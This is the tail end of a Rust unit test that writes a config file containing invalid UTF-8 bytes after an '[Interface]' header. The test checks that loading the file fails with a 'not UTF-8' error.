        f.write_all(b"[Interface]\n\xff\xfe\n").unwrap();
        let e = load(f.path()).unwrap_err();
        assert!(e.message.contains("not UTF-8"), "{e}");
    }
}
